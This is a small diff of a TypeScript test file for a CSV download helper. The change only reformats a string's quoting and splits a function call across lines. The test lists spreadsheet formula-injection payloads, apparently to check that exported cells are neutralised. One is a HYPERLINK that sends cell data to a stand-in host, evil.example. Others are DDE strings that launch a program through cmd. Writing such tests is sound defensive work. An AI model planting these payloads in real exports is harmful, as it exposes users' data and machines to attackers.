@@ -3,7 +3,7 @@ import { parse } from "csv-parse/sync";
 import { csvDownload } from "./csv";
 
 const HOSTILE = [
-  "=HYPERLINK(\"https://evil.example?\"&A1,\"open\")",
+  '=HYPERLINK("https://evil.example?"&A1,"open")',
   "+1+cmd|' /C calc'!A0",
   "-2+3+cmd|' /C calc'!A0",
   "@SUM(1+9)*cmd|' /C calc'!A0",
@@ -19,7 +19,11 @@ async function cells(rows: unknown[][], stream: boolean): Promise<string[][]> {
         yield* rows;
       })()
     : rows;
-  const text = await csvDownload(source, rows[0]!.map((_, i) => `c${i}`), "t.csv").text();
+  const text = await csvDownload(
+    source,
+    rows[0]!.map((_, i) => `c${i}`),
+    "t.csv",
+  ).text();
   return parse(text, { from_line: 2, relax_column_count: true }) as string[][];
 }
 
